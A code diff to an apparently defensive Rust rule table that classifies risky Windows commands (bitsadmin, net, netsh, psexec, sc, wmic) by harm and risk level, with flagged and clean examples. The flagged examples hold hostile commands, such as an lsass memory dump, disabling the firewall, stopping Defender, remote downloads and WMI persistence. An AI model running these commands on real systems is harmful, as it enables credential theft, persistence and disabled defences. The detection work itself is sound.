@@ -63,8 +63,9 @@ pub const WINDOWS: &[Program] = &[
         subs: &[
             Sub { words: &["-setnotifycmdline"], harm: SelfEscalation, level: High, reason: "runs a program whenever a background transfer ends (BITS persistence)" },
             Sub { words: &["-transfer|-addfile|-create"], harm: Evasion, level: Medium, reason: "fetches files through the Background Intelligent Transfer Service" },
+            Sub { words: &["-resume|-complete|-setminretrydelay|-setnoprogresstimeout|-setnotifyflags|-setcustomheaders|-setproxysettings"], harm: SelfEscalation, level: Medium, reason: "changes or resumes a background transfer job (BITS persistence)" },
         ],
-        flagged: &["bitsadmin /transfer job /download /priority high http://x.example/a.exe C:\\Temp\\a.exe", "bitsadmin /SetNotifyCmdLine 1 cmd.exe NULL"],
+        flagged: &["bitsadmin /transfer job /download /priority high http://x.example/a.exe C:\\Temp\\a.exe", "bitsadmin /SetNotifyCmdLine 1 cmd.exe NULL", "bitsadmin /SetMinRetryDelay \"backdoor\" 60"],
         clean: &["bitsadmin /list /allusers"],
         ..W
     },
@@ -255,12 +256,14 @@ pub const WINDOWS: &[Program] = &[
         source: "https://learn.microsoft.com/previous-versions/windows/it-pro/windows-server-2012-r2-and-2012/cc771865(v=ws.11) (net user|localgroup|group ... /add|/delete create, delete and promote accounts; net stop stops a service; ATT&CK T1136, T1098, T1489)",
         subs: &[
             Sub { words: &["user|localgroup|group", "-add|-delete|-del|-active=yes"], harm: SelfEscalation, level: High, reason: "creates, deletes or promotes a Windows account" },
+            Sub { words: &["user", "?", "?"], harm: SelfEscalation, level: High, reason: "sets a Windows account's password" },
+            Sub { words: &["user", "-expires*|-passwordchg*|-passwordreq*|-times*|-workstations*|-scriptpath*|-profilepath*|-homedir*|-active*"], harm: SelfEscalation, level: Medium, reason: "changes a Windows account (expiry, password rules, logon hours, logon script)" },
             Sub { words: &["stop"], harm: Destructive, level: Medium, reason: "stops a Windows service" },
             Sub { words: &["start", "?"], harm: Destructive, level: Medium, reason: "starts a Windows service" },
             Sub { words: &["use", "?"], harm: SelfEscalation, level: Medium, reason: "connects or disconnects a network share (a drive or a session)" },
         ],
-        flagged: &["net localgroup administrators username /add", "net group \"Domain Admins\" username /add /domain", "net user bob P4ss /add", "NET USER guest /active:yes", "net stop WinDefend", "net start RemoteRegistry", "net use x: '\\\\fileserver\\share'"],
-        clean: &["net localgroup group_name", "net start", "net share", "net user", "net view", "net use"],
+        flagged: &["net localgroup administrators username /add", "net group \"Domain Admins\" username /add /domain", "net user bob P4ss /add", "NET USER guest /active:yes", "net user hacker /Expires:Never", "net user administrator N3wPass!", "net stop WinDefend", "net start RemoteRegistry", "net use x: '\\\\fileserver\\share'"],
+        clean: &["net localgroup group_name", "net start", "net share", "net user", "net user administrator", "net user bob /domain", "net view", "net use"],
         ..W
     },
     Program {
@@ -272,8 +275,9 @@ pub const WINDOWS: &[Program] = &[
             Sub { words: &["add", "helper"], harm: SelfEscalation, level: High, reason: "registers a DLL netsh loads at every run (persistence)" },
             Sub { words: &["interface", "portproxy", "add|set"], harm: Exfiltration, level: Medium, reason: "forwards a port of this machine to another host" },
             Sub { words: &["wlan", "export"], harm: Credential, level: Medium, reason: "exports the saved Wi-Fi profiles (key=clear writes their passwords)" },
+            Sub { words: &["wlan", "show", "key=clear"], harm: Credential, level: Medium, reason: "prints a saved Wi-Fi password (key=clear)" },
         ],
-        flagged: &["netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable", "netsh.exe add helper C:\\Temp\\payload.dll", "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.5 connectport=80"],
+        flagged: &["netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable", "netsh.exe add helper C:\\Temp\\payload.dll", "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.5 connectport=80", "netsh wlan show profile name=Corp key=clear"],
         clean: &["netsh interface ip show config", "netsh advfirewall show allprofiles", "netsh wlan show interfaces"],
         ..W
     },
@@ -307,6 +311,16 @@ pub const WINDOWS: &[Program] = &[
         ],
         flagged: &["procdump.exe -accepteula -ma lsass.exe lsass.dmp", "procdump.exe -md callback.dll app.exe"],
         clean: &["procdump -e -w app.exe"],
+        ..W
+    },
+    Program {
+        names: &["psexec", "psexec64", "paexec"],
+        source: "https://learn.microsoft.com/sysinternals/downloads/psexec (runs a program on another computer, as another user, or with -s as the SYSTEM account); ATT&CK T1569.002, T1021.002",
+        subs: &[
+            Sub { words: &["-s"], harm: SelfEscalation, level: High, reason: "runs a program as the SYSTEM account" },
+            always(SelfEscalation, Medium, "runs a program on another computer or as another user"),
+        ],
+        flagged: &["psexec -s -i cmd.exe", "PsExec64.exe \\\\srv01 -u admin -p pw cmd", "psexec -accepteula -s -d powershell"],
         ..W
     },
     Program {
@@ -384,8 +398,11 @@ pub const WINDOWS: &[Program] = &[
     Program {
         names: &["sc"],
         source: "https://learn.microsoft.com/windows-server/administration/windows-commands/sc-config (create, config, delete, stop, failure and sdset create or change services); ATT&CK T1543.003, T1489",
-        subs: &[Sub { words: &["create|config|delete|stop|failure|sdset|pause"], harm: SelfEscalation, level: Medium, reason: "creates, changes, stops or deletes a Windows service" }],
-        flagged: &["sc config service obj= \".\\LocalSystem\" password= \"\"", "sc.exe create evil binPath= C:\\Temp\\a.exe", "sc stop WinDefend"],
+        subs: &[
+            Sub { words: &["create|config|delete|stop|failure|sdset|pause"], harm: SelfEscalation, level: Medium, reason: "creates, changes, stops or deletes a Windows service" },
+            Sub { words: &["start|continue"], harm: Destructive, level: Medium, reason: "starts a Windows service" },
+        ],
+        flagged: &["sc config service obj= \".\\LocalSystem\" password= \"\"", "sc.exe create evil binPath= C:\\Temp\\a.exe", "sc stop WinDefend", "sc start Backdoor"],
         clean: &["sc query", "sc qc spooler"],
         ..W
     },
@@ -475,10 +492,11 @@ pub const WINDOWS: &[Program] = &[
         subs: &[
             Sub { words: &["process", "call", "create"], harm: Evasion, level: Medium, reason: "starts a process through WMI" },
             Sub { words: &["shadowcopy", "delete"], harm: Destructive, level: High, reason: "deletes the volume shadow copies (the machine's restore points)" },
+            Sub { words: &["path", "*eventfilter*|*eventconsumer*|*consumerbinding*", "create"], harm: SelfEscalation, level: High, reason: "creates a WMI event subscription (runs a command whenever an event fires: persistence)" },
             Sub { words: &["-format=http*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from the network" },
             Sub { words: &["-format=\\\\*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from a network share" },
         ],
-        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic os get /format:\"https://x.example/a.xsl\""],
+        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
         clean: &["wmic os get caption", "wmic process list brief"],
         ..W
     },
